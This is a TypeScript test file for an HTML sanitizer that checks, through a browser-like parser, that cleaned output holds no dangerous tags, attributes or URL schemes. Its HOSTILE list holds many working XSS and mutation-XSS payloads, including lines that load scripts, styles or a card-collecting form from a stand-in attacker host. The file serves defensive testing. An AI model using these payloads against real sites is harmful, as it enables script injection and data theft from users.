/** What does not get through, however it is wrapped. The result is read by a browser's parser, not by the cleaner's. */
import * as fc from 'fast-check';
import { JSDOM } from 'jsdom';

import { plainText } from '@footbridge/bridge/wordpress/html/clean';
import { inlineText } from '@footbridge/bridge/wordpress/html/inline';
import { always } from '../../../../../__tests__/support/cases';
import { clean } from './clean';

const { window } = new JSDOM('');

const ALLOWED_SCHEMES = /^(?:https?:|mailto:|tel:|sms:|\/(?!\/)|#)/;
const FORBIDDEN =
  'script,style,iframe,object,embed,applet,base,meta,link,form,input,button,select,textarea,svg,math,template,noscript,xmp,plaintext,frame,frameset,marquee,portal';

/** Everything dangerous that a browser would find in it. */
function dangers(html: string): string[] {
  const document = new window.DOMParser().parseFromString(`<!doctype html><body>${html}</body>`, 'text/html');
  const found = [...document.body.querySelectorAll(FORBIDDEN)].map(({ tagName }) => tagName.toLowerCase());
  for (const element of document.body.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || name === 'srcdoc' || name === 'formaction' || name.includes(':')) found.push(name);
      if (['href', 'src', 'poster', 'action', 'cite', 'data'].includes(name) && !ALLOWED_SCHEMES.test(value))
        found.push(`${name}=${value}`);
      if (
        name === 'style' &&
        /url\(|expression|position|z-index|transform|fixed|absolute|@import|behavior/i.test(value)
      )
        found.push(`style=${value}`);
      if (['src', 'poster', 'srcset'].includes(name) && /\/\//.test(value)) found.push(`${name}=${value}`);
    }
  }
  return found;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<script/src="//evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="http://127.0.0.1:8080/wp-content/uploads/a.jpg" onload="alert(1)" srcset="//evil.example/a.png 1x">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href=" \u0001javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="https://evil.example/x.swf"><param name="movie" value="x"></object>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example/"><input name="card"><button>Send</button></form>',
  '<button formaction="javascript:alert(1)">a</button>',
  '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<p style="position:fixed;inset:0;z-index:9999">a</p>',
  '<p style="background:url(https://evil.example/p.gif)">a</p>',
  '<p style="width:expression(alert(1));margin-top:-4000px">a</p>',
  '<p style="background:linear-gradient(red,blue),url(track)">a</p>',
  '<div style="transform:scale(99);opacity:0.1">a</div>',
  '<video poster="https://evil.example/p.gif" src="https://evil.example/v.mp4" onplay="alert(1)"></video>',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle="alert(1)"><summary>a</summary></details>',
  '<p title="`><img src=x onerror=alert(1)>">a</p>',
  '<a href="https://example.org/" data-video="https://evil.example/">a</a>',
  '<div class="skip-link" id="page-data">{"config":{}}</div>',
  // What one parser takes for text and another for markup.
  '<xmp><script>alert(1)</script></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<style><p title="</style><img src=x onerror=alert(1)>"></style>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet ><img src=x onerror=alert(1)>?>',
  '<table><td><script>alert(1)</script><tr><img src=x onerror=alert(1)>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<a href="#"><a href="javascript:alert(1)">b</a></a>',
  '<p/onclick=alert(1)>a',
  '<img """><script>alert(1)</script>">',
  '<\u0000script>alert(1)</script>',
];

describe('the allowlist', () => {
  it.each(HOSTILE)('%s comes to nothing', (html) => {
    expect(dangers(clean(html))).toEqual([]);
    expect(dangers(clean(`<p>Before ${html} after</p>`))).toEqual([]);
  });

  it('is shut twice: what comes out, cleaned again, stays as it is for a browser', () => {
    for (const html of HOSTILE) expect(dangers(clean(clean(html)))).toEqual([]);
  });

  it('lets no small data picture in: its words stay', () => {
    expect(clean('<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="A leaf"></p>')).toBe('<p>A leaf</p>');
  });

  it('lets gradients of colours pass', () => {
    const html =
      '<p style="background:linear-gradient(135deg,rgba(6,147,227,1) 0%,var(--wp--preset--color--vivid-red) 50%,#9b51e0 100%)">a</p>';
    expect(clean(html)).toBe(html);
  });

  it('leaves no words of what is no text', () => {
    const html =
      '<p>a</p><style>.x{}</style><svg><title>t</title><text>u</text></svg><template>w</template><noscript>x</noscript><textarea>y</textarea>';
    expect(clean(html)).toBe('<p>a</p>');
  });

  it('lends none of the page’s own looks to a text', () => {
    expect(clean('<div class="skip-link masthead alignwide wp-block-group wp-container-3">a</div>')).toBe(
      '<div class="alignwide wp-block-group">a</div>',
    );
  });
});

const wrapper = fc.constantFrom(
  ...'p span a table tr td ul li h2 pre figure svg math mtext mglyph style noscript template textarea title xmp iframe'.split(
    ' ',
  ),
  ...'select option form object video audio details summary foreignObject annotation-xml desc frameset'.split(' '),
);
const BROKEN = [
  '<',
  '</',
  '-->',
  '<!--',
  ']]>',
  '"',
  "'",
  '`',
  '>',
  '</p>',
  '</table>',
  '</svg>',
  '</style>',
  '\0',
  '&#60;',
];
const nested = fc.letrec<{ html: string }>((tie) => ({
  html: fc.oneof(
    { maxDepth: 5 },
    fc.constantFrom(...HOSTILE, ...BROKEN),
    fc
      .tuple(wrapper, fc.constantFrom('', ...HOSTILE), fc.array(tie('html'), { maxLength: 3 }), fc.boolean())
      .map(
        ([name, title, inner, isClosed]) =>
          `<${name} title="${title.replaceAll('"', '&quot;')}">${inner.join('')}${isClosed ? `</${name}>` : ''}`,
      ),
  ),
})).html;

it('any nesting of hostile tags: a browser finds nothing dangerous in it', () => {
  always([nested], (html) => expect(dangers(clean(html))).toEqual([]));
});

it('as a title any HTML is words, and markup without attributes but the language', () => {
  always([nested], (html) => {
    const { body } = new window.DOMParser().parseFromString(inlineText(html).html, 'text/html');
    expect([...body.querySelectorAll(FORBIDDEN)]).toEqual([]);
    const names = [...body.querySelectorAll('*')].flatMap((element) => element.getAttributeNames());
    expect(names.filter((name) => name !== 'lang')).toEqual([]);
  });
});

it('as plain text any HTML is on one line', () => {
  always([nested], (html) => {
    const text = plainText(html);
    expect(text).toBe(text.replace(/\s+/g, ' ').trim());
  });
});
